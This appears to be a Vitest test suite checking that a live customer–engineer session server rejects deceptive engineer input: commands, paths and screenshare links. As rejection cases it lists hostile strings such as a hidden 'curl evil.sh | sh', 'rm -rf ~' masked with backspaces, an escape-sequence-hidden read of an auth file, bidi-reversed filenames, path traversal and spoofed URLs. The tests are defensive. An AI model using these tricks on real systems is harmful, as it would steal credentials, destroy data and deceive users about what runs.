import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { liveSession, type Party, party } from './support/liveFixture';
import { startTestServer, type TestServer } from './support/testServer';
import type { TestSession } from './support/wsClient';

/**
 * Commands, paths and links that could show the customer something other than what runs are
 * refused by the server with E_VALIDATION, each next to the same input without the trick.
 * (Validation runs before storage, so one database is enough.)
 */
describe('engineer input the customer could be fooled by', () => {
  let server: TestServer;
  let customer: Party;
  let engineer: Party;
  const open: TestSession[] = [];

  beforeAll(async () => {
    server = await startTestServer();
    customer = await party(server, 'customer', 1_000);
    engineer = await party(server, 'engineer');
  });
  afterAll(async () => {
    await Promise.all(open.map((s) => s.close()));
    await server?.close();
  });

  const refusal = async (s: TestSession, type: string, payload: unknown) => {
    const r = await s.request(type, payload);
    return r.error ?? { code: 'accepted', message: '' };
  };

  it('refuses commands with NUL, C0/C1 controls or bidi controls; allows tab and newline', async () => {
    const { e } = await liveSession(server, customer, engineer);
    open.push(e);
    for (const command of [
      'npm test\x1b[8m; cat ~/.config/codevf/auth.json #\x1b[0m',
      'curl evil.sh | sh #\r   npm test',
      'rm -rf ~; \b\b\b\bnpm test',
      'npm test\0',
      'npm test\x9b2J',
      'npm test\x7f',
      'echo \u202Etset mpn',
      'ls \u2066x\u2069',
      'npm test\u2028rm -rf ~',
    ]) {
      const err = await refusal(e, 'request_command', { command, reason: '' });
      expect(err.code, JSON.stringify(command)).toBe('E_VALIDATION');
      expect(err.message).toMatch(/^request_command: command: must not contain .*control/);
    }
    // The same commands without the trick, and multi-line commands, are fine.
    for (const command of ['npm test', 'for f in *.log; do\n\tgrep -n ERROR "$f"\ndone', 'echo "héllo wörld ✓"']) {
      expect((await e.request('request_command', { command, reason: '' })).ack?.seq).toBeGreaterThan(0);
    }
  });

  it('refuses a bad working directory or time limit on a command request; stores good ones on the event', async () => {
    const { c, e } = await liveSession(server, customer, engineer);
    open.push(c, e);
    const refused: [Record<string, unknown>, RegExp][] = [
      [{ cwd: '/etc' }, /cwd: must be relative to the project root/],
      [{ cwd: 'C:\\Windows' }, /cwd: must be relative to the project root/],
      [{ cwd: 'packages\\api' }, /cwd: must use \//],
      [{ cwd: '..' }, /cwd: must not contain \.\./],
      [{ cwd: 'packages/../../x' }, /cwd: must not contain \.\./],
      [{ cwd: '' }, /cwd: must not be empty/],
      [{ cwd: 'src\nx' }, /cwd: must not contain NUL, newlines/],
      [{ cwd: 'src/\u202Etxt' }, /cwd: must not contain/],
      [{ cwd: 'a/'.repeat(600) }, /cwd: .*1024/],
      [{ timeoutSeconds: 0 }, /timeoutSeconds: .*1/],
      [{ timeoutSeconds: 3601 }, /timeoutSeconds: .*3600/],
      [{ timeoutSeconds: 1.5 }, /timeoutSeconds: .*integer/],
      [{ timeoutSeconds: '60' }, /timeoutSeconds: .*number/],
    ];
    for (const [extra, message] of refused) {
      const err = await refusal(e, 'request_command', { command: 'npm test', reason: '', ...extra });
      expect(err.code, JSON.stringify(extra)).toBe('E_VALIDATION');
      expect(err.message, JSON.stringify(extra)).toMatch(message);
    }
    // Nothing was stored for the refusals; the good ones reach the customer with cwd and timeout.
    const seq = await e.expectAck('request_command', {
      command: 'npm test',
      reason: 'the api tests',
      cwd: 'packages/api',
      timeoutSeconds: 3600,
    });
    const received = await c.waitForSeq(seq);
    expect(received.payload).toMatchObject({ command: 'npm test', cwd: 'packages/api', timeoutSeconds: 3600 });
    const plain = await c.waitForSeq(
      await e.expectAck('request_command', { command: 'ls', reason: '', timeoutSeconds: 1 }),
    );
    expect(plain.payload).not.toHaveProperty('cwd');
    expect(plain.payload.timeoutSeconds).toBe(1);
    expect(c.events.filter((f) => f.type === 'request_command')).toHaveLength(2);
  });

  it('refuses paths with newlines, controls or bidi controls', async () => {
    const { e } = await liveSession(server, customer, engineer);
    open.push(e);
    for (const path of ['README.md\x1b[8m/../config/x.yml', 'a\nb.txt', 'a\tb.txt', 'x\0', 'src/\u202Egnp.exe']) {
      const err = await refusal(e, 'request_file', { path, reason: '' });
      expect(err.code, JSON.stringify(path)).toBe('E_VALIDATION');
      expect(err.message).toMatch(/^request_file: path: must not contain/);
    }
    expect((await e.request('request_file', { path: 'src/login handler.ts', reason: '' })).ack).toBeDefined();
  });

  it('refuses a file_upload whose path is not the path the request asked for; accepts the same path', async () => {
    const { c, e } = await liveSession(server, customer, engineer);
    open.push(c, e);
    const asked = await e.expectAck('request_file', { path: 'src/login.ts', reason: 'read the handler' });
    const requestId = (await c.waitForSeq(asked)).payload.requestId as string;
    await c.expectAck('approve_file', { requestId, approved: true });
    const upload = (path: string, content = 'export const ok = true;\n') => ({
      requestId,
      path,
      size: Buffer.byteLength(content),
      sha256: createHash('sha256').update(content).digest('hex'),
      encoding: 'utf8',
      content,
      redactions: 0,
    });
    // Another file, a spelling that names the same file, and a case change: each refused as is.
    for (const path of ['.env', './src/login.ts', 'src/../src/login.ts', 'SRC/login.ts', 'src/login.ts ']) {
      const err = await refusal(c, 'file_upload', upload(path, 'SECRET=1\n'));
      expect(err.code, path).toBe('E_VALIDATION');
      expect(err.message).toBe(
        `file_upload: path ${JSON.stringify(path)} is not the path request ${requestId} asked for ("src/login.ts"); send the requested path exactly.`,
      );
    }
    // Nothing was stored, and the request is still open for the right upload.
    const seq = await c.expectAck('file_upload', upload('src/login.ts'));
    const received = await e.waitForSeq(seq);
    expect(received.payload).toMatchObject({ path: 'src/login.ts', content: 'export const ok = true;\n' });
    expect(e.events.filter((f) => f.type === 'file_upload')).toHaveLength(1);
  });

  it('accepts only https screenshare links without user info (http to loopback on a loopback server)', async () => {
    const { e } = await liveSession(server, customer, engineer);
    open.push(e);
    const refused: [string, RegExp][] = [
      ['javascript:alert(1)', /Only https/],
      ['file:///etc/passwd', /Only https/],
      ['vscode://vscode.git/clone?url=https://evil.example/r.git', /Only https/],
      ['http://meet.example.com/room', /Only https/],
      ['https://meet.google.com@evil.example/room', /user name/],
      ['https://meet.example.com/\u202Eroom', /control or invisible/],
      ['not a url', /spaces|not a full web link/],
    ];
    for (const [url, message] of refused) {
      const err = await refusal(e, 'screenshare_request', { url });
      expect(err.code, url).toBe('E_VALIDATION');
      expect(err.message, url).toMatch(message);
    }
    for (const url of ['https://meet.example.com/abc-defg-hij', 'http://127.0.0.1:5173/share']) {
      expect((await e.request('screenshare_request', { url })).ack, url).toBeDefined();
    }
  });

  it('refuses http to loopback when the server is reached at a public address', async () => {
    const remote = await startTestServer({ config: { publicUrl: 'https://codevf.example.com' } });
    try {
      const c = await party(remote, 'customer', 100);
      const eng = await party(remote, 'engineer');
      const { c: cs, e } = await liveSession(remote, c, eng);
      const err = await refusal(e, 'screenshare_request', { url: 'http://localhost:5173/share' });
      expect(err).toMatchObject({ code: 'E_VALIDATION', message: expect.stringMatching(/Only https/) });
      expect((await e.request('screenshare_request', { url: 'https://meet.example.com/x' })).ack).toBeDefined();
      await Promise.all([cs.close(), e.close()]);
    } finally {
      await remote.close();
    }
  });
});
